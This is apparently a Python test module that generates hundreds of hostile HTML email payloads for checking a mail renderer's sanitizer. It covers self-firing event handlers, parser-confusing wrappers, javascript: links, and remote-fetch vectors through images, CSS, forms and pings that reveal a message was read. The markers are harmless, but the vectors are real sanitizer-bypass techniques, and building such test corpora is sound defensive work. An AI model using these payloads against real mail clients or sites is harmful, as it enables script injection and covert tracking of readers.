"""What strangers put into mail to run code, to be told that it was read, or to lead astray.

Written for this suite from the families of published attacks, as tables: a few elements times a few
ways to write them. Payloads call `fired()`, or ask HERE for something, which is made each one's own
address; the control page shows which of them work when nothing protects it.
"""

import re
from itertools import product

HERE, BARE = "@HERE@/", "@BARE@/"
PIXEL = "data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=="

# Elements whose own events come without anybody's doing; % is the handler, without its `on`.
BY_THEMSELVES = (
    "<img src=x %error>",
    f"<img src={PIXEL} %load>",
    "<image src=x %error>",
    "<svg %load>",
    "<body %load>",
    "<body %pageshow>",
    "<iframe %load></iframe>",
    "<video src=x %error></video>",
    "<audio src=x %error></audio>",
    "<video><source src=x %error></video>",
    "<input type=image src=x %error>",
    "<input autofocus %focus>",
    "<textarea autofocus %focus></textarea>",
    "<select autofocus %focus></select>",
    "<button autofocus %focus>x</button>",
    "<a href=#x autofocus tabindex=1 %focus>x</a>",
    "<div tabindex=0 autofocus %focusin>x</div>",
    "<details open %toggle>x</details>",
    "<marquee %start>x</marquee>",
    "<style %load></style>",
    "<link rel=stylesheet href=x %error>",
    "<script src=x %error></script>",
    "<object data=x %error></object>",
    "<embed src=x %load>",
    "<svg><animate %begin attributeName=x dur=1s>",
    "<svg><set %begin attributeName=x to=y>",
    "<svg><image href=x %error></svg>",
    "<style>@keyframes k{}</style><p style='animation:k 1s' %animationstart>x</p>",
    "<style>@keyframes e{}</style><p style='animation:e .1s' %animationend>x</p>",
    "<p style='content-visibility:auto' %contentvisibilityautostatechange>x</p>",
)
HANDLERS = (
    "on{}=fired()",
    "oN{}='fired()'",
    "/on{}=fired() ",
    'on{}\n=\t"\tfired()\n"',
    "on{}=&#102;ired()",
)
EVENT = re.compile(r"%(\w+)")

# What stands round an attack so that a parser reads it otherwise than a browser does.
WRAPPED = (
    "<noscript><p title='</noscript>%'>",
    "<title><p title='</title>%'></title>",
    "<xmp><p title='</xmp>%'></xmp>",
    "<noembed><p title='</noembed>%'></noembed>",
    "<noframes><p title='</noframes>%'></noframes>",
    "<textarea><p title='</textarea>%'></textarea>",
    "<style><p title='</style>%'></style>",
    "<iframe><p title='</iframe>%'></iframe>",
    "<!-->%-->",
    "<!-- --!>% -->",
    "<!--->%",
    "<![CDATA[>%]]>",
    "<?php >% ?>",
    "<!DOCTYPE x [>%",
    "<svg><style>%</style></svg>",
    "<svg></p><style><a title='</style>%'>",
    "<svg><desc>%</desc></svg>",
    "<svg><foreignObject>%</foreignObject></svg>",
    "<svg><title><style>%</style></title></svg>",
    "<math><mtext><table><mglyph><style>%",
    "<math><annotation-xml encoding='text/html'>%</math>",
    "<math><mi><p>%</math>",
    "<form><math><mtext></form><form><mglyph><style></math>%",
    "<table><td>%</table>",
    "<table><p>%</p></table>",
    "<select><p>%</select>%",
    "<template>x</template>%",
    "<p style=\"x:'</style>'\">%</p>",
    "<p title=`>%`>",
    "<div><![if true]>%<![endif]></div>",
    "<form><form>%</form></form>",
    "</body></html>%",
    "<a title='&quot;>%'>x</a>%",
    "\x00%",
    "\ufeff%",
)
INNER = ("<img src=x onerror=fired()>", "<svg onload=fired()>")

SCRIPT_TAGS = (
    "<script>fired()</script>",
    "<ScRiPt>fired()</sCrIpT>",
    "<script/x>fired()</script>",
    "<script type=module>fired()</script>",
    "<script\n>fired()</script\n>",
    "<script>fired()",
    "<<script>fired();//<</script>",
    "<svg><script>fired()</script></svg>",
    "<svg><script>&#102;ired()</script></svg>",
    "<math><script>fired()</script></math>",
    f"<script src='data:text/javascript,fired()'></script><b>{'x' * 5}</b>",
    "<template><script>fired()</script></template><script>fired()</script>",
    "<iframe srcdoc='<script>parent.fired()</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=parent.fired()&gt;'></iframe>",
    "<base href='javascript:/a/-fired()//'><script>fired()</script>",
    "<object data='data:text/html,<script>parent.fired()</script>'></object>",
)

# Addresses that are code, and what follows an address when somebody clicks, or at once.
CODE = (
    "javascript:fired()",
    "JaVaScRiPt:fired()",
    "java&#9;script:fired()",
    "java&#10;script:fired()",
    " &#1; javascript:fired()",
    "javascript&colon;fired()",
    "&#106;avascript:fired()",
)
FOLLOWING = (
    "<a href='%'>click</a>",
    "<map name=m><area shape=default href='%'></map><img usemap=#m src=x width=9 height=9>",
    "<svg><a href='%'><text y=9>click</text></a></svg>",
    "<svg><a xlink:href='%'><text y=9>click</text></a></svg>",
    "<form action='%'><button>click</button></form>",
    "<form id=f></form><button form=f formaction='%'>click</button>",
    "<form><input type=submit formaction='%'></form>",
    "<iframe src='%'></iframe>",
)

# Events of somebody who looks: pointing, focusing, clicking, typing.
DEEDS = (
    "click", "dblclick", "mousedown", "mouseup", "mouseover", "mouseenter", "mousemove", "mouseout",
    "pointerdown", "pointerover", "pointerenter", "keydown", "keyup", "keypress", "input", "copy",
    "contextmenu", "wheel", "touchstart", "dragstart", "focus", "blur", "auxclick", "selectstart",
)  # fmt: skip

SCRIPTS = (
    *(
        EVENT.sub(lambda event, way=way: way.format(event[1]), element)
        for element, way in product(BY_THEMSELVES, HANDLERS)
    ),
    *(wrapper.replace("%", inner) for wrapper, inner in product(WRAPPED, INNER)),
    *SCRIPT_TAGS,
    *(follows.replace("%", code) for follows, code in product(FOLLOWING, CODE)),
    *(f"<p tabindex=0 on{deed}=fired()>x</p>" for deed in DEEDS),
)

# Where elements look for files; % is the address.
SOURCES = (
    "<img src=%>",
    "<img srcset='% 1x'>",
    "<img src=x srcset='x 1x, % 2x' sizes=9px><img src=%>",
    "<image src=%>",
    "<picture><source srcset='%'><img src=x></picture>",
    "<input type=image src=%>",
    "<video poster=%></video>",
    "<video src=%></video>",
    "<video><source src=%></video>",
    "<audio src=% preload=auto></audio>",
    "<video src=x><track default kind=captions src=%></video><img src=%>",
    "<iframe src=%></iframe>",
    "<frameset><frame src=%></frameset><iframe src=%></iframe>",
    "<iframe srcdoc='<img src=%>'></iframe>",
    "<object data=%></object>",
    "<object><param name=src value=%></object><embed src=%>",
    "<embed src=%>",
    "<link rel=stylesheet href=%>",
    "<link rel=preload as=image href=%>",
    "<link rel=modulepreload href=%><img src=%>",
    "<link rel=icon href=%><img src=%>",
    "<body background=%>",
    "<table background=%><td>x</table>",
    "<table><td background=%>x</table>",
    "<table><tr background=%><td>x</table>",
    "<svg><image href=% width=9 height=9></image></svg>",
    "<svg><image xlink:href=% width=9 height=9></svg>",
    "<svg><filter id=f><feImage href=% /></filter><rect filter=url(#f) width=9 height=9>",
    "<svg><use href=%#a /></svg><img src=%>",
    "<svg><style>@import '%';</style></svg>",
    "<meta http-equiv=refresh content='0;url=%'>",
    "<META HTTP-EQUIV=REFRESH CONTENT='0; URL=%'>",
    "<base href=%><img src=a>",
    "<script src=%></script>",
    "<script>fetch('%')</script>",
    "<script>new Image().src='%'</script>",
    "<script>navigator.sendBeacon('%')</script>",
    "<noscript><img src=%></noscript><img src=%>",
    "<img lowsrc=% dynsrc=% src=%>",
)
# Ways to write one address, and whose attribute reads them.
WRITINGS = (f"  {HERE}", f"//{BARE}", f"HTTP://{BARE}", f"http:\\\\{BARE}", f"ht&#9;tp://{BARE}")
READING = ("<img src='%'>", "<iframe src='%'></iframe>", "<video poster='%'>", "<object data='%'>")

# Style sheets fetch too: a value here, put into an attribute and into a sheet.
FETCHING = (
    "background:url(%)",
    "background:url( '%' )",
    "background-image:image-set('%' 1x)",
    "background-image:-webkit-image-set(url(%) 1x)",
    "background:u\\rl(%)",
    "background:\\75rl(%)",
    "background/**/:/**/url(%)",
    "list-style:url(%);display:list-item",
    "border-image:url(%) 1;border:1px solid",
    "content:url(%)",
    "mask-image:url(%);-webkit-mask:url(%)",
    "shape-outside:url(%);float:left;background:url(%)",
    "--x:url(%);background:var(--x)",
    "cursor:url(%),auto;background:url(%)",
    "filter:url(%#f);background:url(%)",
    "background:linear-gradient(red,red),url(%)",
)
SHEETS = (
    "<style>@import '%';</style>",
    "<style>@import url(%);</style>",
    "<style>@font-face{font-family:f;src:url(%)}*{font-family:f}</style><p>x",
    "<style>p::before{content:url(%)}</style><p>x</p>",
    "<style>p::first-letter{background:url(%)}</style><p>x</p>",
    "<style>@media all{p{background:url(%)}}</style><p>x</p>",
    "<style>@supports (a:b) or (color:red){p{background:url(%)}}</style><p>x</p>",
    "<style>input[value^=a]{background:url(%)}</style><input value=abc>",
)

# What asks when somebody clicks: forms, and links that tell a third.
SENDING = (
    "<form action=% method=post><button>click</button></form>",
    "<form action=%><input name=q value=1><input type=submit></form>",
    "<form method=post action=% enctype=text/plain><input type=image src=x></form>",
    "<form id=g></form><button form=g formaction=% formmethod=post>click</button>",
    "<form><button formaction=%>click</button></form>",
    "<form method=dialog><input type=submit formaction=% formmethod=post></form>",
    "<form action=% target=_top><button>click</button></form>",
    "<form action=% id=s></form><script>s.submit()</script>",
    "<a href='#x' ping=%>click</a>",
    "<map name=n><area shape=default href=#x ping=%></map><img usemap=#n src=x width=9 height=9>",
)

REQUESTS = (
    *SOURCES,
    *(reader.replace("%", writing) for reader, writing in product(READING, WRITINGS)),
    *(f'<p style="{value}">x</p>' for value in FETCHING),
    *(f"<style>p{{{value}}}</style><p>x</p>" for value in FETCHING),
    *(f'<div style="color:red;{value};color:blue">x</div>' for value in FETCHING[:8]),
    *SHEETS,
    *SENDING,
)

PAYLOADS = (*SCRIPTS, *REQUESTS)

# For every text that a stranger writes and a page shows: subject, names, file names, snippet.
TEXTS = (
    "<script>fired()</script>",
    "<img src=x onerror=fired()>",
    '"><img src=x onerror=fired()>',
    "'><svg onload=fired()>",
    "</title><script>fired()</script>",
    "</textarea><img src=x onerror=fired()>",
    "</summary></details><img src=x onerror=fired()>",
    "</iframe><img src=x onerror=fired()>",
    "</pre><img src=x onerror=fired()>",
    "--><img src=x onerror=fired()>",
    "{{ 7|add:7 }}{% debug %}",
    "${fired()}",
    "javascript:fired()",
    "&lt;img src=x onerror=fired()&gt;",
    "&#60;img src=x onerror=fired()&#62;",
    "\u202egpj.exe<img src=x onerror=fired()>",
    "<bdi></bdi></bdi></a><img src=x onerror=fired()>",
    'x" autofocus onfocus="fired()',
    "x' hx-on:click='fired()' hx-get='/x' hx-trigger='load",
    "<p hx-get='/setup/' hx-trigger='load' hx-on::load='fired()'>",
    "<b data-live='/x' data-opens data-do=trash>x</b>",
    "][x](javascript:fired())",
    f"<img src={HERE}>",
    f"<style>*{{background:url({HERE})}}</style><link rel=stylesheet href={HERE}>",
)


def aimed(payload: str, host: str) -> str:
    """The payload with its own address to ask: `host` is a name and a port."""
    if payload in REQUESTS:
        payload = payload.replace("%", HERE)
    return payload.replace(HERE, f"http://{host}/").replace(BARE, f"{host}/")
